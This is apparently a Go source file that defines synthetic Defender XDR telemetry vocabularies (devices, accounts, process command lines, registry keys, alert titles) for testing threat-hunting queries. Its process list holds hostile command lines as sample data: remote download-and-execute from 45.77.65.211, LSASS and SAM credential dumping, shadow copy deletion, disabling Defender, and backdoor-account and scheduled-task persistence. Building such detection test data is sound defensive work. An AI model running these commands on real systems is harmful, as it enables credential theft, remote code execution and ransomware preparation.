package gen

// The vocabularies below are made up but shaped like Defender XDR
// telemetry: the values hunting queries compare columns with (process
// names, action types, ports, logon types) are among them, so that filters
// keep some rows and the operators after them have work to do. A value
// listed twice is drawn twice as often.

// device is a machine of the generated tenant. Every table draws its
// devices from the same pool, so joins on DeviceId or DeviceName match.
type device struct {
	name, os, osVersion, ip, publicIP, group, deviceType string
	build                                                int64
}

var devices = []device{
	{name: "desktop-7f3k2lq.contoso.com", os: "Windows11", osVersion: "10.0", build: 22631, ip: "10.0.1.17", publicIP: "20.84.12.5", group: "Workstations", deviceType: "Workstation"},
	{name: "laptop-jdoe.contoso.com", os: "Windows10", osVersion: "10.0", build: 19045, ip: "10.0.1.23", publicIP: "20.84.12.5", group: "Workstations", deviceType: "Workstation"},
	{name: "wks-finance-04.contoso.com", os: "Windows10", osVersion: "10.0", build: 19045, ip: "10.0.2.41", publicIP: "20.84.12.6", group: "Finance", deviceType: "Workstation"},
	{name: "srv-dc01.contoso.com", os: "WindowsServer2022", osVersion: "10.0", build: 20348, ip: "10.0.0.4", publicIP: "20.84.12.9", group: "Domain Controllers", deviceType: "Server"},
	{name: "srv-web01.contoso.com", os: "WindowsServer2019", osVersion: "10.0", build: 17763, ip: "10.0.0.12", publicIP: "52.170.33.81", group: "Servers", deviceType: "Server"},
	{name: "srv-sql02.contoso.com", os: "WindowsServer2016", osVersion: "10.0", build: 14393, ip: "10.0.0.15", publicIP: "20.84.12.9", group: "Servers", deviceType: "Server"},
	{name: "ubuntu-build-01", os: "Linux", osVersion: "22.04", build: 0, ip: "10.0.3.8", publicIP: "52.170.33.90", group: "Linux", deviceType: "Server"},
	{name: "mac-design-02", os: "macOS", osVersion: "14.4", build: 0, ip: "192.168.1.20", publicIP: "81.2.69.142", group: "Workstations", deviceType: "Workstation"},
}

// account is a user or service identity.
type account struct {
	name, domain, sid, upn, display string
}

var accounts = []account{
	{name: "jdoe", domain: "contoso", sid: "S-1-5-21-1004336348-1177238915-682003330-1104", upn: "jdoe@contoso.com", display: "John Doe"},
	{name: "asmith", domain: "contoso", sid: "S-1-5-21-1004336348-1177238915-682003330-1107", upn: "asmith@contoso.com", display: "Alice Smith"},
	{name: "bwilliams", domain: "contoso", sid: "S-1-5-21-1004336348-1177238915-682003330-1112", upn: "bwilliams@contoso.com", display: "Bob Williams"},
	{name: "adm-jdoe", domain: "contoso", sid: "S-1-5-21-1004336348-1177238915-682003330-1120", upn: "adm-jdoe@contoso.com", display: "John Doe (admin)"},
	{name: "svc_backup", domain: "contoso", sid: "S-1-5-21-1004336348-1177238915-682003330-1133", upn: "svc_backup@contoso.com", display: "Backup service"},
	{name: "administrator", domain: "contoso", sid: "S-1-5-21-1004336348-1177238915-682003330-500", upn: "administrator@contoso.com", display: "Administrator"},
	{name: "system", domain: "nt authority", sid: "S-1-5-18", display: "SYSTEM"},
	{name: "system", domain: "nt authority", sid: "S-1-5-18", display: "SYSTEM"},
	{name: "local service", domain: "nt authority", sid: "S-1-5-19", display: "LOCAL SERVICE"},
	{name: "network service", domain: "nt authority", sid: "S-1-5-20", display: "NETWORK SERVICE"},
}

// program is an executable with the command lines it is seen with.
type program struct {
	file, dir, company, product, desc, version string
	cmds                                       []string
}

const (
	sys32   = `C:\Windows\System32\`
	msCorp  = "Microsoft Corporation"
	msWin   = "Microsoft® Windows® Operating System"
	winVers = "10.0.22621.1"
)

var programs = []program{
	{file: "powershell.exe", dir: sys32 + `WindowsPowerShell\v1.0\`, company: msCorp, product: msWin, desc: "Windows PowerShell", version: winVers, cmds: []string{
		`powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
		`"powershell.exe" -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://45.77.65.211/a.ps1')"`,
		`powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\scripts\inventory.ps1`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" Get-MpPreference | Select-Object ExclusionPath`,
		`powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true`,
	}},
	{file: "pwsh.exe", dir: `C:\Program Files\PowerShell\7\`, company: msCorp, product: "PowerShell", desc: "pwsh", version: "7.4.1", cmds: []string{
		`"C:\Program Files\PowerShell\7\pwsh.exe" -NoLogo -Command Invoke-WebRequest -Uri https://raw.githubusercontent.com/x/y/main/run.ps1 -OutFile run.ps1`,
	}},
	{file: "cmd.exe", dir: sys32, company: msCorp, product: msWin, desc: "Windows Command Processor", version: winVers, cmds: []string{
		`cmd.exe /c whoami /all`,
		`"cmd.exe" /c net user /domain`,
		`cmd.exe /c ping -n 1 10.0.0.4`,
		`C:\Windows\system32\cmd.exe /c "C:\ProgramData\update.bat"`,
		`cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1700000000.123 2>&1`,
		`cmd.exe /c vssadmin delete shadows /all /quiet`,
	}},
	{file: "rundll32.exe", dir: sys32, company: msCorp, product: msWin, desc: "Windows host process (Rundll32)", version: winVers, cmds: []string{
		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full`,
		`rundll32.exe shell32.dll,Control_RunDLL`,
		`"rundll32.exe" C:\Users\Public\payload.dll,DllRegisterServer`,
	}},
	{file: "regsvr32.exe", dir: sys32, company: msCorp, product: msWin, desc: "Microsoft(C) Register Server", version: winVers, cmds: []string{
		`regsvr32.exe /s /n /u /i:http://45.77.65.211/file.sct scrobj.dll`,
		`regsvr32.exe /s C:\Program Files\Common Files\System\ado\msado15.dll`,
	}},
	{file: "mshta.exe", dir: sys32, company: msCorp, product: "Internet Explorer", desc: "Microsoft (R) HTML Application host", version: "11.00.22621.1", cmds: []string{
		`mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell"":close")`,
		`"mshta.exe" https://pastebin.com/raw/abc123`,
	}},
	{file: "wscript.exe", dir: sys32, company: msCorp, product: msWin, desc: "Microsoft ® Windows Based Script Host", version: "5.812.10240.16384", cmds: []string{
		`"wscript.exe" C:\Users\jdoe\Downloads\invoice.js`,
	}},
	{file: "cscript.exe", dir: sys32, company: msCorp, product: msWin, desc: "Microsoft ® Console Based Script Host", version: "5.812.10240.16384", cmds: []string{
		`cscript.exe //nologo C:\Windows\System32\slmgr.vbs /dli`,
	}},
	{file: "svchost.exe", dir: sys32, company: msCorp, product: msWin, desc: "Host Process for Windows Services", version: winVers, cmds: []string{
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		`C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p`,
	}},
	{file: "explorer.exe", dir: `C:\Windows\`, company: msCorp, product: msWin, desc: "Windows Explorer", version: winVers, cmds: []string{
		`C:\Windows\Explorer.EXE`,
	}},
	{file: "winword.exe", dir: `C:\Program Files\Microsoft Office\root\Office16\`, company: msCorp, product: "Microsoft Office", desc: "Microsoft Word", version: "16.0.17328.20162", cmds: []string{
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Downloads\invoice.docm"`,
	}},
	{file: "excel.exe", dir: `C:\Program Files\Microsoft Office\root\Office16\`, company: msCorp, product: "Microsoft Office", desc: "Microsoft Excel", version: "16.0.17328.20162", cmds: []string{
		`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\asmith\Documents\budget.xlsx"`,
	}},
	{file: "outlook.exe", dir: `C:\Program Files\Microsoft Office\root\Office16\`, company: msCorp, product: "Microsoft Office", desc: "Microsoft Outlook", version: "16.0.17328.20162", cmds: []string{
		`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`,
	}},
	{file: "chrome.exe", dir: `C:\Program Files\Google\Chrome\Application\`, company: "Google LLC", product: "Google Chrome", desc: "Google Chrome", version: "122.0.6261.112", cmds: []string{
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" https://login.microsoftonline.com/`,
	}},
	{file: "msedge.exe", dir: `C:\Program Files (x86)\Microsoft\Edge\Application\`, company: msCorp, product: "Microsoft Edge", desc: "Microsoft Edge", version: "122.0.2365.80", cmds: []string{
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://contoso.sharepoint.com/`,
	}},
	{file: "wmiprvse.exe", dir: sys32 + `wbem\`, company: msCorp, product: msWin, desc: "WMI Provider Host", version: winVers, cmds: []string{
		`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`,
	}},
	{file: "wmic.exe", dir: sys32 + `wbem\`, company: msCorp, product: msWin, desc: "WMI Commandline Utility", version: winVers, cmds: []string{
		`wmic.exe /node:10.0.0.15 process call create "cmd.exe /c whoami"`,
		`wmic shadowcopy delete /nointeractive`,
	}},
	{file: "schtasks.exe", dir: sys32, company: msCorp, product: msWin, desc: "Task Scheduler Configuration Tool", version: winVers, cmds: []string{
		`schtasks.exe /create /tn "\Microsoft\Windows\Updater" /tr "C:\ProgramData\update.exe" /sc onlogon /ru SYSTEM /f`,
	}},
	{file: "net.exe", dir: sys32, company: msCorp, product: msWin, desc: "Net Command", version: winVers, cmds: []string{
		`net.exe localgroup administrators`,
		`net user backdoor P@ssw0rd! /add`,
		`net group "Domain Admins" /domain`,
	}},
	{file: "net1.exe", dir: sys32, company: msCorp, product: msWin, desc: "Net Command", version: winVers, cmds: []string{
		`C:\Windows\system32\net1 localgroup administrators backdoor /add`,
	}},
	{file: "whoami.exe", dir: sys32, company: msCorp, product: msWin, desc: "whoami - displays logged on user information", version: winVers, cmds: []string{
		`whoami.exe /priv`,
		`"whoami.exe" /groups`,
	}},
	{file: "certutil.exe", dir: sys32, company: msCorp, product: msWin, desc: "CertUtil.exe", version: winVers, cmds: []string{
		`certutil.exe -urlcache -split -f http://45.77.65.211/p.exe C:\Users\Public\p.exe`,
		`certutil -decode encoded.txt payload.dll`,
	}},
	{file: "bitsadmin.exe", dir: sys32, company: msCorp, product: msWin, desc: "BITS administration utility", version: winVers, cmds: []string{
		`bitsadmin /transfer job /download /priority high http://45.77.65.211/a.exe C:\Windows\Temp\a.exe`,
	}},
	{file: "msiexec.exe", dir: sys32, company: msCorp, product: msWin, desc: "Windows® installer", version: "5.0.22621.1", cmds: []string{
		`msiexec.exe /i https://download.screenmeet.com/agent.msi /qn`,
		`C:\Windows\system32\msiexec.exe /V`,
	}},
	{file: "reg.exe", dir: sys32, company: msCorp, product: msWin, desc: "Registry Console Tool", version: winVers, cmds: []string{
		`reg.exe save HKLM\SAM C:\Windows\Temp\sam.save`,
		`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\ProgramData\update.exe /f`,
	}},
	{file: "sc.exe", dir: sys32, company: msCorp, product: msWin, desc: "Service Control Manager Configuration Tool", version: winVers, cmds: []string{
		`sc.exe create UpdaterSvc binPath= "C:\ProgramData\update.exe" start= auto`,
		`sc stop WinDefend`,
	}},
	{file: "lsass.exe", dir: sys32, company: msCorp, product: msWin, desc: "Local Security Authority Process", version: winVers, cmds: []string{
		`C:\Windows\system32\lsass.exe`,
	}},
	{file: "services.exe", dir: sys32, company: msCorp, product: msWin, desc: "Services and Controller app", version: winVers, cmds: []string{
		`C:\Windows\system32\services.exe`,
	}},
	{file: "conhost.exe", dir: sys32, company: msCorp, product: msWin, desc: "Console Window Host", version: winVers, cmds: []string{
		`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`,
	}},
	{file: "vssadmin.exe", dir: sys32, company: msCorp, product: msWin, desc: "Command Line Interface for Microsoft® Volume Shadow Copy Service", version: winVers, cmds: []string{
		`vssadmin.exe delete shadows /all /quiet`,
		`vssadmin list shadows`,
	}},
	{file: "nltest.exe", dir: sys32, company: msCorp, product: msWin, desc: "Microsoft® Logon Server Test Utility", version: winVers, cmds: []string{
		`nltest.exe /domain_trusts /all_trusts`,
		`nltest /dclist:contoso.com`,
	}},
	{file: "curl.exe", dir: sys32, company: "curl, https://curl.se/", product: "The curl executable", desc: "The curl executable", version: "8.4.0", cmds: []string{
		`curl.exe -k -o C:\Users\Public\t.exe https://transfer.sh/get/t.exe`,
	}},
	{file: "PsExec.exe", dir: `C:\Tools\`, company: "Sysinternals - www.sysinternals.com", product: "Sysinternals PsExec", desc: "Execute processes remotely", version: "2.43", cmds: []string{
		`PsExec.exe \\srv-sql02 -s -d cmd.exe /c "ipconfig /all"`,
	}},
	{file: "MsMpEng.exe", dir: `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0\`, company: msCorp, product: msWin, desc: "Antimalware Service Executable", version: "4.18.24020.7", cmds: []string{
		`"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0\MsMpEng.exe"`,
	}},
	{file: "ScreenMeetSupport.exe", dir: `C:\Program Files\ScreenMeet\`, company: "Projector Inc", product: "ScreenMeet", desc: "ScreenMeet Support", version: "3.2.1", cmds: []string{
		`"C:\Program Files\ScreenMeet\ScreenMeetSupport.exe" --session 4411`,
	}},
	{file: "AnyDesk.exe", dir: `C:\Program Files (x86)\AnyDesk\`, company: "philandro Software GmbH", product: "AnyDesk", desc: "AnyDesk", version: "8.0.8", cmds: []string{
		`"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service`,
	}},
	{file: "bash", dir: `/usr/bin/`, company: "", product: "", desc: "", version: "", cmds: []string{
		`bash -c "curl -s http://45.77.65.211/x.sh | sh"`,
		`/bin/bash /usr/local/bin/backup.sh`,
	}},
	{file: "python3", dir: `/usr/bin/`, company: "", product: "", desc: "", version: "", cmds: []string{
		`python3 -c "import pty; pty.spawn('/bin/bash')"`,
	}},
}

// document is a file that is not a program: documents, scripts, archives
// and libraries, written, read and loaded by the programs.
var documents = []struct{ file, dir string }{
	{"invoice.docm", `C:\Users\jdoe\Downloads\`},
	{"budget.xlsx", `C:\Users\asmith\Documents\`},
	{"report.pdf", `C:\Users\bwilliams\Desktop\`},
	{"update.ps1", `C:\ProgramData\scripts\`},
	{"invoice.js", `C:\Users\jdoe\Downloads\`},
	{"update.bat", `C:\ProgramData\`},
	{"archive.zip", `C:\Users\jdoe\Downloads\`},
	{"payload.dll", `C:\Users\Public\`},
	{"lsass.dmp", `C:\Windows\Temp\`},
	{"sam.save", `C:\Windows\Temp\`},
	{"update.exe", `C:\ProgramData\`},
	{"Notes.lnk", `C:\Users\jdoe\AppData\Roaming\Microsoft\Windows\Recent\`},
	{"README.txt", `C:\Users\jdoe\Desktop\`},
	{"ntds.dit", `C:\Windows\NTDS\`},
	{"backup.sh", `/usr/local/bin/`},
}

// libraries are the images that DeviceImageLoadEvents reports.
var libraries = []struct{ file, dir string }{
	{"ntdll.dll", sys32},
	{"kernel32.dll", sys32},
	{"amsi.dll", sys32},
	{"clr.dll", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\`},
	{"System.Management.Automation.dll", `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\`},
	{"vaultcli.dll", sys32},
	{"samlib.dll", sys32},
	{"dbghelp.dll", sys32},
	{"comsvcs.dll", sys32},
	{"payload.dll", `C:\Users\Public\`},
	{"wininet.dll", sys32},
	{"winhttp.dll", sys32},
}

// remote is a network peer.
type remote struct {
	url, ip, ipType string
}

var remotes = []remote{
	{"login.microsoftonline.com", "20.190.151.9", "Public"},
	{"https://login.microsoftonline.com/common/oauth2/v2.0/token", "20.190.151.9", "Public"},
	{"settings-win.data.microsoft.com", "52.113.194.132", "Public"},
	{"", "13.107.42.14", "Public"},
	{"api.screenmeet.com", "104.18.22.150", "Public"},
	{"raw.githubusercontent.com", "185.199.108.133", "Public"},
	{"https://pastebin.com/raw/abc123", "104.20.67.143", "Public"},
	{"http://45.77.65.211/a.ps1", "45.77.65.211", "Public"},
	{"relay.anydesk.com", "195.181.174.175", "Public"},
	{"1a2b3c.ngrok.io", "3.134.39.220", "Public"},
	{"transfer.sh", "144.76.136.153", "Public"},
	{"www.google.com", "142.250.74.36", "Public"},
	{"dns.google", "8.8.8.8", "Public"},
	{"", "1.1.1.1", "Public"},
	{"", "10.0.0.4", "Private"},
	{"srv-sql02.contoso.com", "10.0.0.15", "Private"},
	{"", "10.0.1.23", "Private"},
	{"", "192.168.1.1", "Private"},
	{"", "127.0.0.1", "Loopback"},
	{"", "::1", "Loopback"},
	{"", "::ffff:10.0.0.12", "FourToSixMapping"},
	{"", "fe80::1c2d:3e4f:5a6b:7c8d", "LinkLocal"},
	{"", "", ""},
}

// remotePorts are well-known service ports, the ones hunts look for.
var remotePorts = []int64{443, 443, 443, 80, 80, 445, 3389, 22, 53, 135, 139, 389, 636, 88, 5985, 5986, 8080, 4444, 1433, 25}

// actionTypes are the ActionType values of each table, in rough order of
// frequency (the first values are repeated to be drawn more often).
var actionTypes = map[string][]string{
	"DeviceProcessEvents":   {"ProcessCreated"},
	"DeviceNetworkEvents":   {"ConnectionSuccess", "ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed", "ConnectionRequest", "InboundConnectionAccepted", "ListeningConnectionCreated", "ConnectionAttempt", "DnsConnectionInspected", "HttpConnectionInspected", "SslConnectionInspected", "SshConnectionInspected", "IcmpConnectionInspected", "NetworkSignatureInspected", "InboundInternetScanInspected"},
	"DeviceFileEvents":      {"FileCreated", "FileCreated", "FileCreated", "FileModified", "FileModified", "FileRenamed", "FileDeleted"},
	"DeviceLogonEvents":     {"LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed", "LogonAttempted"},
	"DeviceRegistryEvents":  {"RegistryValueSet", "RegistryValueSet", "RegistryValueSet", "RegistryKeyCreated", "RegistryKeyDeleted", "RegistryValueDeleted", "RegistryKeyRenamed"},
	"DeviceImageLoadEvents": {"ImageLoaded"},
	"DeviceEvents": {"AntivirusDetection", "PowerShellCommand", "PowerShellCommand", "ProcessCreatedUsingWmiQuery", "ScheduledTaskCreated", "ServiceInstalled",
		"UsbDriveMounted", "PnpDeviceConnected", "NamedPipeEvent", "CreateRemoteThreadApiCall", "OpenProcessApiCall", "LdapSearch", "DnsQueryResponse",
		"BrowserLaunchedToOpenUrl", "SmartScreenUrlWarning", "SmartScreenAppWarning", "SmartScreenUserOverride", "ExploitGuardNetworkProtectionBlocked",
		"AsrLsassCredentialTheftBlocked", "AsrOfficeChildProcessAudited", "ProcessPrimaryTokenModified", "UserAccountCreated", "UserAccountAddedToLocalGroup",
		"TamperingAttempt", "AntivirusScanCompleted", "FirewallInboundConnectionBlocked", "ShellLinkCreateFileEvent", "GetClipboardData", "SecurityLogCleared",
		"DeviceBootAttestationInfo", "AppControlExecutableAudited", "LogonRightsSettingEnabled", "OtherAlertRelatedActivity"},
	"IdentityLogonEvents":       {"LogonSuccess", "LogonSuccess", "LogonFailed"},
	"IdentityDirectoryEvents":   {"Account Password changed", "Group Membership changed", "Directory Services replication", "Account Enabled changed"},
	"IdentityQueryEvents":       {"LDAP query", "DNS query", "SAMR query"},
	"CloudAppEvents":            {"MailItemsAccessed", "FileDownloaded", "FileUploaded", "New-InboxRule", "Set-Mailbox", "Add member to role.", "Consent to application.", "ClickBlocked", "ClickAllowed"},
	"UrlClickEvents":            {"ClickAllowed", "ClickAllowed", "ClickBlocked", "ClickBlockedByTenantPolicy", "UrlErrorPage"},
	"DeviceFileCertificateInfo": {""},
}

// genericActions serve tables without their own list.
var genericActions = []string{"ProcessCreated", "ConnectionSuccess", "FileCreated", "LogonSuccess", "LogonFailed", "RegistryValueSet", "AntivirusDetection", "PowerShellCommand"}

var registryKeys = []string{
	`HKEY_CURRENT_USER\S-1-5-21-1004336348-1177238915-682003330-1104\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
	`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
	`HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\UpdaterSvc`,
	`HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`,
	`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`,
	`HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Lsa`,
	`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`,
	`HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Terminal Server`,
}

var registryValueNames = []string{"Updater", "ImagePath", "DisableAntiSpyware", "Debugger", "RunAsPPL", "Userinit", "fDenyTSConnections", "Start", "DisableRealtimeMonitoring", ""}

var registryValueData = []string{`C:\ProgramData\update.exe`, "1", "0", `C:\Windows\System32\cmd.exe`, `C:\Windows\system32\userinit.exe,`, "2", `"C:\Program Files\ScreenMeet\ScreenMeetSupport.exe" --autostart`, ""}

var logonTypes = []string{"Interactive", "Interactive", "Network", "Network", "RemoteInteractive", "Batch", "Service", "Unlock", "CachedInteractive", "NewCredentials"}

var protocolsByTable = map[string][]string{
	"DeviceNetworkEvents": {"Tcp", "Tcp", "Tcp", "Udp", "TcpV4", "TcpV6", "UdpV4", "Icmp"},
	"IdentityLogonEvents": {"Kerberos", "Kerberos", "Ntlm", "Ldap", "LdapS", "Radius"},
	"DeviceLogonEvents":   {"Kerberos", "NTLM", "Negotiate", ""},
}

var failureReasons = []string{"", "", "", "InvalidUserNameOrPassword", "UnknownUser", "AccountLocked", "WrongPassword", "AccountDisabled"}

var emailDomains = []string{"contoso.com", "contoso.com", "fabrikam.com", "tailspintoys.com", "outlook.com", "gmail.com", "examp1e-secure-login.com"}

var emailSubjects = []string{"Invoice #4411 overdue", "Quarterly budget review", "RE: Meeting notes", "Your mailbox is almost full", "Action required: verify your account", "Shared document: Q3 plan.xlsx", "Payroll update", ""}

var alertTitles = []string{
	"Suspicious PowerShell command line", "Possible credential dumping via comsvcs.dll", "Ransomware behavior detected in the file system",
	"Suspicious remote access software", "Malicious URL was clicked on", "Email messages containing malicious URL removed after delivery",
	"Suspected DCSync attack (replication of directory services)", "Anomalous scheduled task", "Impossible travel activity",
}

var alertCategories = []string{"Execution", "CredentialAccess", "LateralMovement", "InitialAccess", "Malware", "Ransomware", "Persistence", "CommandAndControl", "SuspiciousActivity", "DefenseEvasion", "Discovery", "Exfiltration"}

var severities = []string{"High", "Medium", "Medium", "Low", "Informational"}

var serviceSources = []string{"Microsoft Defender for Endpoint", "Microsoft Defender for Office 365", "Microsoft Defender for Identity", "Microsoft Defender for Cloud Apps", "Microsoft Defender XDR"}

var detectionSources = []string{"EDR", "Antivirus", "Microsoft Defender for Office 365", "Custom detection", "Microsoft Defender for Identity", "Automated investigation"}

var entityTypes = []string{"Process", "File", "Ip", "Url", "User", "Machine", "MailMessage", "Mailbox", "CloudApplication", "RegistryValue"}

var attackTechniques = []string{`["PowerShell (T1059.001)"]`, `["OS Credential Dumping (T1003)","LSASS Memory (T1003.001)"]`, `["Remote Access Software (T1219)"]`, `["Phishing (T1566)","Spearphishing Link (T1566.002)"]`, `[]`}

var threatNames = []string{"Trojan:Win32/Wacatac.B!ml", "HackTool:Win32/Mimikatz.D", "Behavior:Win32/CobaltStrike.A", "TrojanDownloader:PowerShell/Nemucod", "Ransom:Win32/LockBit.A"}

var userAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0",
	"python-requests/2.31.0", "curl/8.4.0", "Microsoft Office/16.0",
}

var countries = []string{"US", "US", "GB", "DE", "NL", "FR", "CN", "RU", "BR", ""}

var cities = []string{"Seattle", "Redmond", "London", "Berlin", "Amsterdam", "Paris", "Beijing", "Moscow", "São Paulo", ""}

var applications = []string{"Active Directory", "Microsoft Teams", "Office 365", "Microsoft Exchange Online", "Azure Portal", "Microsoft 365"}

var integrityLevels = []string{"Medium", "Medium", "High", "System", "Low"}

var tokenElevations = []string{"TokenElevationTypeDefault", "TokenElevationTypeDefault", "TokenElevationTypeFull", "TokenElevationTypeLimited", "None"}

var signatureStatuses = []string{"Valid", "Valid", "Valid", "Unsigned", "Invalid", "Unknown"}

var signerTypes = []string{"OsVendor", "OsVendor", "Microsoft", "ThirdParty", "Unknown"}

// words fill string columns that no rule knows: a lowercased prefix of
// the column name with one of these appended reads plausibly.
var words = []string{"alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"}
